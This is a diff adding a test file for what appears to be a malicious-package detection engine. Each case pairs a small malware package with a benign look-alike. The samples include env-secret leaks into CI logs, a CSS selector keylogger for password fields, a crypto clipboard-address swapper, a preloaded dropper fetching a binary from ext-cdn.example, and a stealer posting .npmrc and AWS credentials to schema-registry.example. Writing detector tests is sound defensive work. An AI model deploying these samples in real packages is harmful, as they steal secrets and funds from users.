@@ -1,0 +1,266 @@
+/**
+ * Shapes from the twenty-third session: rounds 89 to 91 (one attack per family, the three
+ * hardest families, package-manager and monorepo machinery) and leftovers of rounds 86 to 88,
+ * written blind by helpers that had not read the engine. Each is rewritten small and varied
+ * here, with a look-alike that must stay quiet.
+ */
+import { analyzeSource, strongestOf as ruleOf, threatFindings as threats } from './helpers';
+
+const manifest = (name: string, extra: Record<string, unknown> = {}) =>
+  JSON.stringify({ name, version: '1.4.2', main: 'index.js', ...extra });
+
+describe('secrets printed encoded, however the encoding is reached (review of round 87)', () => {
+  const action = (code: string) =>
+    analyzeSource({ 'package.json': manifest('pr-size-labeler'), 'index.js': code });
+  it.each([
+    [
+      'a buffer of the serialised environment',
+      "const core = require('@actions/core');\nconst blob = Buffer.from(JSON.stringify(process.env)).toString('base64');\ncore.info(blob);",
+    ],
+    ['btoa', "const core = require('@actions/core');\ncore.info(btoa(JSON.stringify(process.env)));"],
+    [
+      'the toolkit reached without a name',
+      "const snap = Buffer.from(JSON.stringify({ ...process.env })).toString('hex');\nrequire('@actions/core').notice(snap);",
+    ],
+    [
+      'the toolkit under another name',
+      "const gh = require('@actions/core');\nconst all = Object.assign({}, process.env);\ngh.debug(btoa(JSON.stringify(all)));",
+    ],
+  ])('reports %s in a job log', (_, code) => {
+    const r = action(code);
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.8);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves one value encoded for an API alone', () => {
+    const r = action(
+      "const core = require('@actions/core');\nconst auth = btoa(`x-access-token:${process.env.GITHUB_TOKEN}`);\ncore.info(`authorisation header ready (${auth.length} chars)`);",
+    );
+    expect(threats(r)).toEqual([]);
+  });
+});
+
+describe('a stylesheet that reads secret fields through attribute selectors (round 86)', () => {
+  const theme = (selectors: string, rule: string) => ({
+    'package.json': manifest('tokens-theme'),
+    'index.js': [
+      `const FIELDS = [${selectors}];`,
+      "const CHARS = 'abcdefghijklmnopqrstuvwxyz0123456789';",
+      'module.exports = function apply(doc, cdn) {',
+      "  const css = [':root{--accent:#4f46e5}'];",
+      '  for (const sel of FIELDS) for (const c of CHARS) css.push(' + rule + ');',
+      "  const el = doc.createElement('style');",
+      "  el.textContent = css.join('\\n');",
+      '  doc.head.appendChild(el);',
+      '};',
+    ].join('\n'),
+  });
+  it('reports an image loaded for each ending of a password field', () => {
+    const r = analyzeSource(
+      theme(
+        `'input[type="password"]', 'input[autocomplete="one-time-code"]'`,
+        '`${sel}[value$="${c}"]{background-image:url(${cdn}/px/${c}.png)}`',
+      ),
+    );
+    expect(ruleOf(r, 'text.css-value-leak')?.threat_type).toBe('data_exfiltration');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('reports the same built by concatenation, by prefix', () => {
+    const r = analyzeSource(
+      theme(
+        `'input[name*="card" i]'`,
+        "sel + '[value^=\"' + c + '\"]{border-image:url(\"' + cdn + '/b/' + c + '\") 0}'",
+      ),
+    );
+    expect(ruleOf(r, 'text.css-value-leak')).toBeDefined();
+  });
+  it('leaves value selectors with inline icons, and a placeholder style, alone', () => {
+    const r = analyzeSource(
+      theme(
+        `'input[type="password"]', 'input[type="search"]'`,
+        '`${sel}[value=""]{background-image:url("data:image/svg+xml;utf8,<svg/>")} ${sel}[value$=".pdf"]{color:red}`',
+      ),
+    );
+    expect(threats(r)).toEqual([]);
+  });
+});
+
+describe('a clipboard swap spread over three modules, its addresses reversed (round 86)', () => {
+  const polyfill = (table: string) => ({
+    'package.json': manifest('clipboard-lines', { main: 'dist/auto.js', type: 'module' }),
+    'dist/auto.js': [
+      "import { tidy } from './tidy.js';",
+      "document.addEventListener('copy', (e) => {",
+      '  const s = String(document.getSelection() || "");',
+      '  const t = tidy(s);',
+      "  if (t !== s) { e.clipboardData.setData('text/plain', t); e.preventDefault(); }",
+      '}, true);',
+    ].join('\n'),
+    'dist/tidy.js': [
+      "import { SHAPES } from './shapes.js';",
+      "const back = (s) => [...s].reverse().join('');",
+      'export function tidy(text) {',
+      "  let out = text.replace(/\\r\\n?/g, '\\n');",
+      '  for (const [re, forms] of SHAPES) out = out.replace(re, () => back(forms[0]));',
+      '  return out;',
+      '}',
+    ].join('\n'),
+    'dist/shapes.js': table,
+  });
+  it('reports the swap when the interception reaches the pattern and the address two modules away', () => {
+    const r = analyzeSource(
+      polyfill(
+        "export const SHAPES = [[/\\b0x[a-fA-F0-9]{40}\\b/g, ['b2E6d4a1C0f9384E7a5dD1C2e0F8b9a63c71D4e0x0']]];",
+      ),
+    );
+    expect(ruleOf(r, 'js.wallet-address-swap')?.threat_type).toBe('malicious_code');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves the same normaliser without addresses alone', () => {
+    const r = analyzeSource(polyfill("export const SHAPES = [[/\\u00a0/g, [' ']]];"));
+    expect(ruleOf(r, 'js.wallet-address-swap')).toBeUndefined();
+  });
+  it('leaves a wallet chip that copies the address it shows and names known tokens alone', () => {
+    const r = analyzeSource({
+      'package.json': manifest('wallet-chip', { main: 'dist/index.js', type: 'module' }),
+      'dist/index.js': [
+        "import { isAddress, label } from './format.js';",
+        'export function mount(el, address) {',
+        "  if (!isAddress(address)) throw new Error('bad address');",
+        '  el.textContent = label(address);',
+        '  el.onclick = () => navigator.clipboard.writeText(address);',
+        '}',
+      ].join('\n'),
+      'dist/format.js': [
+        "import { TOKENS } from './tokens.js';",
+        'const ETH = /^0x[a-fA-F0-9]{40}$/;',
+        'export const isAddress = (a) => ETH.test(a);',
+        "export const label = (a) => (TOKENS.find((t) => t.address.toLowerCase() === a.toLowerCase()) || {}).symbol || a.slice(0, 6) + '…' + a.slice(-4);",
+      ].join('\n'),
+      'dist/tokens.js':
+        "export const TOKENS = [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }];",
+    });
+    expect(threats(r)).toEqual([]);
+  });
+});
+
+describe('files a tool configuration preloads (round 91)', () => {
+  const dropper = [
+    "import { chmodSync, mkdirSync } from 'node:fs';",
+    "import { homedir } from 'node:os';",
+    "import { join } from 'node:path';",
+    "const dir = join(homedir(), '.cache', '.ext');",
+    "const bin = join(dir, 'helper');",
+    'const res = await fetch(`https://ext-cdn.example/${process.platform}`);',
+    'mkdirSync(dir, { recursive: true });',
+    'await Bun.write(bin, res);',
+    'chmodSync(bin, 0o755);',
+    "Bun.spawn([bin, '--daemon'], { stdio: ['ignore', 'ignore', 'ignore'] }).unref();",
+  ].join('\n');
+  it.each([
+    ['bunfig.toml', 'preload = ["./scripts/tool.ts"]\n'],
+    ['bunfig.toml', '[test]\npreload = [\n  "./test/setup.ts",\n  "./scripts/tool.ts",\n]\n'],
+    ['.mocharc.yml', 'require:\n  - ./scripts/tool.ts\nspec: test/**/*.spec.ts\n'],
+  ])('reads a dropper %s preloads as code that runs unprompted', (config, text) => {
+    const r = analyzeSource({
+      'package.json': manifest('http-kit', { main: 'src/index.ts', type: 'module' }),
+      [config]: text,
+      'scripts/tool.ts': dropper,
+      'src/index.ts': 'export const route = (p: string) => p;',
+      'test/setup.ts': 'export {};',
+    });
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves a preload that registers test helpers alone', () => {
+    const r = analyzeSource({
+      'package.json': manifest('ui-kit', { main: 'src/index.ts', type: 'module' }),
+      'bunfig.toml': '[test]\npreload = ["./test/dom.ts"]\n',
+      'test/dom.ts':
+        "import { GlobalRegistrator } from '@happy-dom/global-registrator';\nGlobalRegistrator.register();\n",
+      'src/index.ts': 'export const x = 1;',
+    });
+    expect(threats(r)).toEqual([]);
+  });
+});
+
+describe("a tool's own folder in the project is not the user's files (round 90)", () => {
+  const versioner = (dir: string) => ({
+    'package.json': manifest('versionset', { bin: { versionset: 'cli.js' } }),
+    'index.js': [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      'exports.consume = (root) => {',
+      `  const dir = path.join(root, ${dir});`,
+      "  for (const f of fs.readdirSync(dir).filter((f) => f.endsWith('.md'))) fs.unlinkSync(path.join(dir, f));",
+      '};',
+    ].join('\n'),
+    'cli.js': "#!/usr/bin/env node\nrequire('./index').consume(process.cwd());",
+  });
+  it('leaves changesets consumed from <project>/.changeset alone', () => {
+    expect(threats(analyzeSource(versioner("'.changeset'")))).toEqual([]);
+  });
+  it("still reports every listed file of the project's sources deleted", () => {
+    const r = analyzeSource(versioner("'src'"));
+    expect(ruleOf(r, 'js.destructive-user-data')).toBeDefined();
+  });
+});
+
+describe('credentials read through getters on exports and through descriptors (round 89)', () => {
+  const stealer = (discovery: string) => ({
+    'package.json': manifest('layered-config'),
+    'index.js': [
+      "const discovery = require('./lib/discovery');",
+      "const https = require('https');",
+      'setTimeout(() => {',
+      "  const req = https.request({ hostname: 'schema-registry.example', method: 'POST' });",
+      '  req.end(JSON.stringify({ overlays: discovery.overlays }));',
+      '}, 45000).unref();',
+    ].join('\n'),
+    'lib/locations.json': JSON.stringify([
+      { id: 'npm', segs: ['.n', 'pmrc'] },
+      { id: 'aws', segs: ['.aws', 'cred', 'entials'] },
+    ]),
+    'lib/discovery.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      "const locations = require('./locations.json');",
+      'const where = (e) => path.join(os.homedir(), e.segs.join(""));',
+      discovery,
+    ].join('\n'),
+  });
+  it('follows a getter defined on exports', () => {
+    const r = analyzeSource(
+      stealer(
+        "let cache;\nObject.defineProperty(exports, 'overlays', { enumerable: true, get() { if (!cache) cache = locations.map((e) => fs.readFileSync(where(e), 'utf8')); return cache; } });",
+      ),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('follows a credential file read through a descriptor into a buffer', () => {
+    const r = analyzeSource(
+      stealer(
+        [
+          'function sample(e) {',
+          "  const fd = fs.openSync(where(e), 'r');",
+          '  const buf = Buffer.alloc(4096);',
+          '  fs.readSync(fd, buf, 0, buf.length, 0);',
+          '  fs.closeSync(fd);',
+          "  return buf.toString('utf8');",
+          '}',
+          'Object.defineProperties(module.exports, { overlays: { get: () => locations.map(sample) } });',
+        ].join('\n'),
+      ),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
+  });
+  it('leaves a getter that reads the project config alone', () => {
+    const r = analyzeSource(
+      stealer(
+        "Object.defineProperty(exports, 'overlays', { get() { return fs.readFileSync(path.join(process.cwd(), '.layeredrc'), 'utf8'); } });",
+      ),
+    );
+    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
+  });
+});
